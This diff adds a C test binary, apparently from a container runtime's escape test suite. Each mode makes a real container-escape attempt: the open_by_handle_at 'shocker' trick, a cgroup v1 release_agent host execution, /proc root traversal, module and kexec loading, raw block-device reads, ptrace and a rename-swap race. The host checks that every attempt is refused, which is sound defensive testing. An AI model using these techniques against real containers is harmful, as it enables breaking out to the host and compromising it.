@@ -1,0 +1,603 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+
+/* The escape suite's attack binary: static, multi-call, copied into a container as /attack and run there as
+ *
+ *         /attack MODE [ARG…]            or            /attack hold MODE [ARG…]
+ *
+ * Each mode makes one real attempt at leaving the container (or at reaching the host's kernel through a door a
+ * container must not have) and prints one line per step: "MODE STEP: ok" or "MODE STEP: refused ERRNO". With
+ * "hold", the process then prints "holding" and waits for a signal, keeping whatever it obtained (descriptors,
+ * namespaces, child processes) for the host to look at.
+ *
+ * The verdict is never taken from this output alone: every case asserts on the host (a canary file, a host
+ * process, a sysctl, the descriptors a container process holds). The exit status is 0 when every step was
+ * refused, 1 when one succeeded, 2 on a usage error. A new attack is a new function in the mode table. */
+
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <inttypes.h>
+#include <linux/bpf.h>
+#include <linux/io_uring.h>
+#include <linux/kexec.h>
+#include <linux/keyctl.h>
+#include <linux/perf_event.h>
+#include <linux/sched.h>
+#include <linux/userfaultfd.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+/* Syscall numbers this libc's headers may not name yet. */
+#ifndef SYS_open_tree
+#define SYS_open_tree 428
+#endif
+#ifndef SYS_move_mount
+#define SYS_move_mount 429
+#endif
+#ifndef SYS_fsopen
+#define SYS_fsopen 430
+#endif
+#ifndef SYS_fsconfig
+#define SYS_fsconfig 431
+#endif
+#ifndef SYS_fsmount
+#define SYS_fsmount 432
+#endif
+#ifndef SYS_clone3
+#define SYS_clone3 435
+#endif
+#define OPEN_TREE_CLONE_ 1
+#define MOVE_MOUNT_F_EMPTY_PATH_ 0x00000004
+#define FSCONFIG_CMD_CREATE_ 6
+
+static bool escaped = false;
+
+/* step WHAT R: reports one attempt; R < 0 means refused, errno says why */
+static int step(const char *mode, const char *what, long r) {
+        if (r < 0) {
+                int e = errno;
+                printf("%s %s: refused %s\n", mode, what, strerrorname_np(e) ?: "?");
+                fflush(stdout);
+                errno = e;
+                return -e;
+        }
+        printf("%s %s: ok\n", mode, what);
+        fflush(stdout);
+        escaped = true;
+        return 0;
+}
+
+static int write_all(int fd, const char *data) {
+        size_t n = strlen(data);
+        ssize_t k = write(fd, data, n);
+        if (k < 0)
+                return -1;
+        if ((size_t) k != n) {
+                errno = EIO;
+                return -1;
+        }
+        return 0;
+}
+
+/* Prints what was read as text, non-printable bytes as '.', so a case can grep a leaked token. */
+static void show(const char *mode, const char *what, const char *buf, ssize_t n) {
+        printf("%s %s data: ", mode, what);
+        for (ssize_t i = 0; i < n; i++)
+                putchar(buf[i] >= 0x20 && buf[i] < 0x7f ? buf[i] : '.');
+        putchar('\n');
+        fflush(stdout);
+}
+
+static int try_write(const char *mode, const char *path, const char *data) {
+        int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY);
+        if (step(mode, path, fd) < 0)
+                return -1;
+        int r = step(mode, "write", write_all(fd, data));
+        close(fd);
+        return r;
+}
+
+static int try_read(const char *mode, const char *path, off_t offset, size_t len) {
+        char buf[65536];
+        int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY);
+        if (step(mode, path, fd) < 0)
+                return -1;
+        if (len > sizeof(buf))
+                len = sizeof(buf);
+        ssize_t n = pread(fd, buf, len, offset);
+        close(fd);
+        if (step(mode, "read", n) < 0)
+                return -1;
+        show(mode, path, buf, n);
+        return 0;
+}
+
+static long num(const char *s) {
+        char *end;
+        errno = 0;
+        long long v = strtoll(s, &end, 0);
+        if (errno != 0 || *end != '\0' || end == s) {
+                fprintf(stderr, "attack: not a number: '%s'\n", s);
+                exit(2);
+        }
+        return (long) v;
+}
+
+/* ---- files and /proc */
+
+/* write PATH DATA: open an existing file for writing (no O_CREAT, no O_TRUNC) and write DATA */
+static int mode_write(int argc, char **argv) {
+        (void) argc;
+        return try_write("write", argv[1], argv[2]);
+}
+
+/* create PATH DATA: create PATH (O_EXCL) and write DATA */
+static int mode_create(int argc, char **argv) {
+        (void) argc;
+        int fd = open(argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+        if (step("create", argv[1], fd) < 0)
+                return -1;
+        int r = step("create", "write", write_all(fd, argv[2]));
+        close(fd);
+        return r;
+}
+
+/* read PATH [OFFSET [LEN]] */
+static int mode_read(int argc, char **argv) {
+        return try_read("read", argv[1], argc > 2 ? num(argv[2]) : 0, argc > 3 ? (size_t) num(argv[3]) : 4096);
+}
+
+/* proc-roots PATH DATA: for every PID this /proc shows, read and write /proc/PID/root/PATH — the host's file,
+ * if any PID in view were a host process (or its root the host's). */
+static int mode_proc_roots(int argc, char **argv) {
+        (void) argc;
+        DIR *d = opendir("/proc");
+        struct dirent *de;
+        char path[4096];
+
+        if (step("proc-roots", "/proc", d ? 0 : -1) < 0)
+                return -1;
+        escaped = false;        /* listing /proc is no escape */
+        while ((de = readdir(d))) {
+                if (de->d_name[0] < '0' || de->d_name[0] > '9')
+                        continue;
+                snprintf(path, sizeof(path), "/proc/%s/root/%s", de->d_name, argv[1]);
+                try_read("proc-roots", path, 0, 256);
+                try_write("proc-roots", path, argv[2]);
+        }
+        closedir(d);
+        return 0;
+}
+
+/* handle MOUNTPATH INO GEN RELPATH DATA: "shocker": open_by_handle_at() with a guessed handle of an inode of the
+ * filesystem MOUNTPATH is on (ext4's root directory is inode 2, generation 0), then RELPATH below it. */
+static int mode_handle(int argc, char **argv) {
+        (void) argc;
+        struct {
+                struct file_handle h;
+                uint32_t ino_gen[2];
+        } fh = { .h = { .handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */ } };
+        fh.ino_gen[0] = (uint32_t) num(argv[2]);
+        fh.ino_gen[1] = (uint32_t) num(argv[3]);
+
+        int mfd = open(argv[1], O_RDONLY | O_CLOEXEC);
+        if (mfd < 0) {
+                printf("handle %s: cannot open: %s\n", argv[1], strerrorname_np(errno) ?: "?");
+                return -1;
+        }
+        int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        close(mfd);
+        if (step("handle", "open_by_handle_at", fd) < 0)
+                return -1;
+        int wfd = openat(fd, argv[4], O_RDWR | O_CLOEXEC);
+        close(fd);
+        if (step("handle", argv[4], wfd) < 0)
+                return -1;
+        char buf[256];
+        ssize_t n = pread(wfd, buf, sizeof(buf), 0);
+        if (n >= 0)
+                show("handle", argv[4], buf, n);
+        step("handle", "write", pwrite(wfd, argv[5], strlen(argv[5]), 0));
+        close(wfd);
+        return 0;
+}
+
+/* ---- mounts */
+
+/* mount SRC TARGET FSTYPE [DATA]: a new mount of FSTYPE (proc, sysfs, ext4 of a device, cgroup…) */
+static int mode_mount(int argc, char **argv) {
+        mkdir(argv[2], 0755);
+        return step("mount", argv[2], mount(argv[1], argv[2], argv[3], 0, argc > 4 ? argv[4] : NULL));
+}
+
+/* bind SRC TARGET */
+static int mode_bind(int argc, char **argv) {
+        (void) argc;
+        mkdir(argv[2], 0755);
+        return step("bind", argv[2], mount(argv[1], argv[2], NULL, MS_BIND | MS_REC, NULL));
+}
+
+/* umount TARGET: lift a mask or a read-only mount (MNT_DETACH, as an attacker would) */
+static int mode_umount(int argc, char **argv) {
+        (void) argc;
+        return step("umount", argv[1], umount2(argv[1], MNT_DETACH));
+}
+
+/* remount-rw TARGET: turn a read-only mount writable */
+static int mode_remount_rw(int argc, char **argv) {
+        (void) argc;
+        return step("remount-rw", argv[1], mount(NULL, argv[1], NULL, MS_REMOUNT | MS_BIND, NULL));
+}
+
+/* pivot-root NEW PUT_OLD */
+static int mode_pivot_root(int argc, char **argv) {
+        (void) argc;
+        mkdir(argv[1], 0755);
+        mkdir(argv[2], 0755);
+        return step("pivot-root", argv[1], syscall(SYS_pivot_root, argv[1], argv[2]));
+}
+
+/* open-tree SRC TARGET: clone a mount with open_tree() and attach it with move_mount() */
+static int mode_open_tree(int argc, char **argv) {
+        (void) argc;
+        int fd = syscall(SYS_open_tree, AT_FDCWD, argv[1], OPEN_TREE_CLONE_ | O_CLOEXEC);
+        if (step("open-tree", argv[1], fd) < 0)
+                return -1;
+        mkdir(argv[2], 0755);
+        int r = step("open-tree", "move_mount",
+                     syscall(SYS_move_mount, fd, "", AT_FDCWD, argv[2], MOVE_MOUNT_F_EMPTY_PATH_));
+        close(fd);
+        return r;
+}
+
+/* fsopen FSTYPE TARGET: a new filesystem instance through fsopen/fsconfig/fsmount/move_mount */
+static int mode_fsopen(int argc, char **argv) {
+        (void) argc;
+        int fs = syscall(SYS_fsopen, argv[1], 1 /* FSOPEN_CLOEXEC */);
+        if (step("fsopen", argv[1], fs) < 0)
+                return -1;
+        if (step("fsopen", "fsconfig", syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE_, NULL, NULL, 0)) < 0)
+                return -1;
+        int m = syscall(SYS_fsmount, fs, 1 /* FSMOUNT_CLOEXEC */, 0);
+        if (step("fsopen", "fsmount", m) < 0)
+                return -1;
+        mkdir(argv[2], 0755);
+        return step("fsopen", "move_mount", syscall(SYS_move_mount, m, "", AT_FDCWD, argv[2], MOVE_MOUNT_F_EMPTY_PATH_));
+}
+
+/* ---- user namespaces: each entry point; what got one stays in it (with "hold") for the host to see */
+
+static void on_term(int sig) {
+        (void) sig;
+        _exit(0);
+}
+
+static void child_holds(void) {
+        /* the child: in the new namespace, waits to be killed with the container */
+        signal(SIGTERM, on_term);
+        for (;;)
+                pause();
+}
+
+static int mode_unshare(int argc, char **argv) {
+        (void) argc, (void) argv;
+        return step("unshare", "CLONE_NEWUSER", unshare(CLONE_NEWUSER));
+}
+
+static int mode_clone(int argc, char **argv) {
+        (void) argc, (void) argv;
+        pid_t pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);
+        if (pid == 0)
+                child_holds();
+        return step("clone", "CLONE_NEWUSER", pid);
+}
+
+static int mode_clone3(int argc, char **argv) {
+        (void) argc, (void) argv;
+        struct clone_args a = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
+        pid_t pid = syscall(SYS_clone3, &a, sizeof(a));
+        if (pid == 0)
+                child_holds();
+        return step("clone3", "CLONE_NEWUSER", pid);
+}
+
+/* ---- kernel interfaces a container has no business with */
+
+/* keys DESCRIPTION: a key and a named session keyring; uid 0's user keyring is the host root's */
+static int mode_keys(int argc, char **argv) {
+        (void) argc;
+        long k = syscall(SYS_add_key, "user", argv[1], "escaped", 7, KEY_SPEC_USER_KEYRING);
+        if (step("keys", "add_key", k) == 0)
+                syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, k, 300);
+        long s = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, argv[1]);
+        if (step("keys", "keyctl join", s) == 0)
+                syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, s, 300);
+        return 0;
+}
+
+/* bpf: a map and a socket filter program ("r0 = 0; exit") */
+static int mode_bpf(int argc, char **argv) {
+        (void) argc, (void) argv;
+        union bpf_attr a = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1 };
+        step("bpf", "BPF_MAP_CREATE", syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)));
+
+        struct bpf_insn prog[] = {
+                { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
+                { .code = BPF_JMP | BPF_EXIT },
+        };
+        union bpf_attr p = {
+                .prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
+                .insn_cnt = 2,
+                .insns = (uintptr_t) prog,
+                .license = (uintptr_t) "GPL",
+        };
+        step("bpf", "BPF_PROG_LOAD", syscall(SYS_bpf, BPF_PROG_LOAD, &p, sizeof(p)));
+        return 0;
+}
+
+/* perf: a software counter on this process, and one system-wide on CPU 0 */
+static int mode_perf(int argc, char **argv) {
+        (void) argc, (void) argv;
+        struct perf_event_attr a = {
+                .type = PERF_TYPE_SOFTWARE,
+                .size = sizeof(a),
+                .config = PERF_COUNT_SW_CPU_CLOCK,
+                .disabled = 1,
+        };
+        step("perf", "self", syscall(SYS_perf_event_open, &a, 0, -1, -1, 0));
+        step("perf", "cpu0", syscall(SYS_perf_event_open, &a, -1, 0, -1, 0));
+        return 0;
+}
+
+static int mode_userfaultfd(int argc, char **argv) {
+        (void) argc, (void) argv;
+        step("userfaultfd", "syscall", syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
+        int fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
+        if (step("userfaultfd", "/dev/userfaultfd", fd) == 0)
+                step("userfaultfd", "USERFAULTFD_IOC_NEW", ioctl(fd, USERFAULTFD_IOC_NEW, O_CLOEXEC));
+        return 0;
+}
+
+static int mode_io_uring(int argc, char **argv) {
+        (void) argc, (void) argv;
+        struct io_uring_params p = {};
+        return step("io_uring", "io_uring_setup", syscall(SYS_io_uring_setup, 8, &p));
+}
+
+/* modules FILE NAME: load FILE (finit_module, init_module) and unload NAME (delete_module) */
+static int mode_modules(int argc, char **argv) {
+        (void) argc;
+        int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+                printf("modules %s: cannot open: %s\n", argv[1], strerrorname_np(errno) ?: "?");
+        /* 4 = MODULE_INIT_COMPRESSED_FILE: lets the kernel decompress a .ko.xz/.ko.zst itself */
+        step("modules", "finit_module", syscall(SYS_finit_module, fd, "", strstr(argv[1], ".ko.") ? 4 : 0));
+        if (fd >= 0) {
+                static char buf[16 << 20];
+                ssize_t n = pread(fd, buf, sizeof(buf), 0);
+                if (n > 0)
+                        step("modules", "init_module", syscall(SYS_init_module, buf, (unsigned long) n, ""));
+                close(fd);
+        }
+        step("modules", "delete_module", syscall(SYS_delete_module, argv[2], O_NONBLOCK));
+        return 0;
+}
+
+/* kexec KERNEL: kexec_file_load() of KERNEL and kexec_load() of one page; nothing is executed */
+static int mode_kexec(int argc, char **argv) {
+        (void) argc;
+        int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+                printf("kexec %s: cannot open: %s\n", argv[1], strerrorname_np(errno) ?: "?");
+        step("kexec", "kexec_file_load", syscall(SYS_kexec_file_load, fd, -1, 1, "", 0UL));
+        static char page[4096] __attribute__((aligned(4096)));
+        struct kexec_segment seg = { .buf = page, .bufsz = sizeof(page), .mem = (void *) 0x1000000,
+                                     .memsz = sizeof(page) };
+        step("kexec", "kexec_load", syscall(SYS_kexec_load, 0x1000000UL, 1UL, &seg, KEXEC_ARCH_DEFAULT));
+        return 0;
+}
+
+/* kexec-unload: the host's cleanup, should a kexec attack ever succeed */
+static int mode_kexec_unload(int argc, char **argv) {
+        (void) argc, (void) argv;
+        step("kexec-unload", "kexec_load", syscall(SYS_kexec_load, 0UL, 0UL, NULL, KEXEC_ARCH_DEFAULT));
+        step("kexec-unload", "kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, NULL, 2UL /* UNLOAD */));
+        return 0;
+}
+
+/* ---- devices */
+
+/* mknod-read PATH MAJOR MINOR OFFSET LEN: make a block device node and read it */
+static int mode_mknod_read(int argc, char **argv) {
+        (void) argc;
+        if (step("mknod-read", "mknod", mknod(argv[1], S_IFBLK | 0600, makedev(num(argv[2]), num(argv[3])))) < 0 &&
+            errno != EEXIST)
+                return -1;
+        return try_read("mknod-read", argv[1], num(argv[4]), (size_t) num(argv[5]));
+}
+
+/* ---- other processes */
+
+/* kill PID [SIG], also PID -1: every process the container can signal */
+static int mode_kill(int argc, char **argv) {
+        return step("kill", argv[1], kill((pid_t) num(argv[1]), argc > 2 ? (int) num(argv[2]) : SIGKILL));
+}
+
+/* ptrace PID: attach, then detach */
+static int mode_ptrace(int argc, char **argv) {
+        (void) argc;
+        pid_t pid = (pid_t) num(argv[1]);
+        if (step("ptrace", "PTRACE_SEIZE", ptrace(PTRACE_SEIZE, pid, NULL, NULL)) == 0)
+                return 0;
+        return step("ptrace", "PTRACE_ATTACH", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
+}
+
+/* abstract NAME MESSAGE: connect to the abstract unix socket @NAME and send MESSAGE */
+static int mode_abstract(int argc, char **argv) {
+        (void) argc;
+        struct sockaddr_un sa = { .sun_family = AF_UNIX };
+        size_t n = strlen(argv[1]);
+        if (n + 1 > sizeof(sa.sun_path)) {
+                fprintf(stderr, "attack: name too long\n");
+                exit(2);
+        }
+        memcpy(sa.sun_path + 1, argv[1], n);
+        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        if (step("abstract", "socket", fd) < 0)
+                return -1;
+        escaped = false;        /* a socket of its own is no escape */
+        if (step("abstract", "connect", connect(fd, (struct sockaddr *) &sa, offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0)
+                return -1;
+        step("abstract", "send", write_all(fd, argv[2]));
+        close(fd);
+        return 0;
+}
+
+/* ---- races */
+
+/* swap-loop SECONDS A B [A B…]: exchanges each pair A <-> B (e.g. a directory and a symlink out of the root) in
+ * a tight loop, while the host starts another container whose mounts land on A. */
+static int mode_swap_loop(int argc, char **argv) {
+        time_t end = time(NULL) + num(argv[1]);
+        unsigned long n = 0;
+
+        printf("swap-loop: running\n");
+        fflush(stdout);
+        while (time(NULL) < end) {
+                for (int i = 2; i + 1 < argc; i += 2)
+                        if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0) {
+                                step("swap-loop", "renameat2", -1);
+                                return -1;
+                        }
+                n++;
+        }
+        printf("swap-loop: %lu swaps\n", n);
+        return 0;
+}
+
+/* release-agent DIR AGENT: cgroup v1's classic: mount a v1 hierarchy, set release_agent to AGENT (a host path
+ * to a script the container wrote), have a process leave a child cgroup so that the kernel runs it on the host */
+static int mode_release_agent(int argc, char **argv) {
+        (void) argc;
+        char path[4096];
+        const char *opts[] = { "none,name=ctr-escape", "rdma", "memory", "pids", NULL };
+        int r = -1;
+
+        mkdir(argv[1], 0755);
+        for (size_t i = 0; opts[i] && r < 0; i++) {
+                snprintf(path, sizeof(path), "cgroup v1 %s", opts[i]);
+                r = step("release-agent", path, mount("cgroup", argv[1], "cgroup", 0, opts[i]));
+        }
+        snprintf(path, sizeof(path), "%s/release_agent", argv[1]);
+        try_write("release-agent", path, argv[2]);
+        snprintf(path, sizeof(path), "%s/x", argv[1]);
+        step("release-agent", "mkdir", mkdir(path, 0755));
+        snprintf(path, sizeof(path), "%s/x/notify_on_release", argv[1]);
+        try_write("release-agent", path, "1");
+        pid_t pid = fork();
+        if (pid == 0) {
+                char procs[4096], me[32];
+                snprintf(procs, sizeof(procs), "%s/x/cgroup.procs", argv[1]);
+                snprintf(me, sizeof(me), "%d", getpid());
+                int fd = open(procs, O_WRONLY | O_CLOEXEC);
+                if (fd >= 0)
+                        (void) !write(fd, me, strlen(me));
+                _exit(0);
+        }
+        if (pid > 0)
+                waitpid(pid, NULL, 0);
+        return 0;
+}
+
+/* ---- the table */
+
+static const struct mode {
+        const char *name;
+        int min_args;
+        int (*run)(int argc, char **argv);
+        const char *usage;
+} modes[] = {
+        { "abstract",      2, mode_abstract,      "NAME MESSAGE" },
+        { "bind",          2, mode_bind,          "SRC TARGET" },
+        { "bpf",           0, mode_bpf,           "" },
+        { "clone",         0, mode_clone,         "" },
+        { "clone3",        0, mode_clone3,        "" },
+        { "create",        2, mode_create,        "PATH DATA" },
+        { "fsopen",        2, mode_fsopen,        "FSTYPE TARGET" },
+        { "handle",        5, mode_handle,        "MOUNTPATH INO GEN RELPATH DATA" },
+        { "io_uring",      0, mode_io_uring,      "" },
+        { "kexec",         1, mode_kexec,         "KERNEL" },
+        { "kexec-unload",  0, mode_kexec_unload,  "" },
+        { "keys",          1, mode_keys,          "DESCRIPTION" },
+        { "kill",          1, mode_kill,          "PID [SIG]" },
+        { "mknod-read",    5, mode_mknod_read,    "PATH MAJOR MINOR OFFSET LEN" },
+        { "modules",       2, mode_modules,       "FILE NAME" },
+        { "mount",         3, mode_mount,         "SRC TARGET FSTYPE [DATA]" },
+        { "open-tree",     2, mode_open_tree,     "SRC TARGET" },
+        { "perf",          0, mode_perf,          "" },
+        { "pivot-root",    2, mode_pivot_root,    "NEW PUT_OLD" },
+        { "proc-roots",    2, mode_proc_roots,    "PATH DATA" },
+        { "ptrace",        1, mode_ptrace,        "PID" },
+        { "read",          1, mode_read,          "PATH [OFFSET [LEN]]" },
+        { "release-agent", 2, mode_release_agent, "DIR AGENT" },
+        { "remount-rw",    1, mode_remount_rw,    "TARGET" },
+        { "swap-loop",     3, mode_swap_loop,     "SECONDS A B [A B…]" },
+        { "umount",        1, mode_umount,        "TARGET" },
+        { "unshare",       0, mode_unshare,       "" },
+        { "userfaultfd",   0, mode_userfaultfd,   "" },
+        { "write",         2, mode_write,         "PATH DATA" },
+};
+
+static int usage(void) {
+        fprintf(stderr, "usage: attack [hold] MODE [ARG…]\n");
+        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
+                fprintf(stderr, "  %s %s\n", modes[i].name, modes[i].usage);
+        return 2;
+}
+
+int main(int argc, char **argv) {
+        bool hold = false;
+
+        if (argc > 1 && strcmp(argv[1], "hold") == 0) {
+                hold = true;
+                argc--, argv++;
+        }
+        if (argc < 2)
+                return usage();
+        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
+                if (strcmp(argv[1], modes[i].name) != 0)
+                        continue;
+                if (argc - 2 < modes[i].min_args)
+                        return usage();
+                modes[i].run(argc - 1, argv + 1);
+                printf("%s: %s\n", modes[i].name, escaped ? "ESCAPED" : "all refused");
+                if (hold) {
+                        /* as a container's PID 1, only a handled signal reaches it */
+                        signal(SIGTERM, on_term);
+                        signal(SIGINT, on_term);
+                        printf("holding\n");
+                        fflush(stdout);
+                        for (;;)
+                                pause();
+                }
+                return escaped ? 1 : 0;
+        }
+        fprintf(stderr, "attack: unknown mode '%s'\n", argv[1]);
+        return usage();
+}
